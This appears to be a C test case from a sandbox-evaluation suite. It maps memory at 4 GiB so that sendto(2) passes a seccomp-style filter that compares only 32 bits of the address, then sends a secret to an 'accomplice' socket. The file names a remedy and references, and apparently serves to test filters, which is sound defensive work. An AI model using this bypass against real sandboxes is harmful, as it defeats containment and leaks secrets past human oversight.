// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach an accomplice.
 * Means: a filter lets sendto(2) through where its address is NULL, and compares 32 bits, as one
 *        does who has numbers in mind. The address lies at 4 GiB, whose lower half is 0; the kernel
 *        takes all 64 bits.
 */
#include "attacks/network-exfil/pair.h"

#include <sys/mman.h>

static enum claim run(const struct brief *b)
{
	struct sockaddr_un *to = mmap((void *)(1UL << 32), 4096, PROT_READ | PROT_WRITE,
				      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	socklen_t size;
	int fd;

	if (to == MAP_FAILED)
		return failed("mmap at 4 GiB");
	size = accomplice(to);
	attempting(b);
	fd = end_of_pair();
	if (fd < 0)
		return denied("socketpair");
	if (sendto(fd, b->secret, strlen(b->secret), 0, (struct sockaddr *)to, size) < 0)
		return denied("sendto");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's accomplice",
	.means = "sendto(2) with an address at 4 GiB: its lower half is NULL",
	.oracle = "sink",
	.needs = NEED_X86_64,
	.attack_id = "T1559, CWE-681",
	.remedy = "compare both halves of a pointer",
	.refs = (const char *const[]){ "seccomp(2)", "unix(7)", NULL },
	.run = run,
};
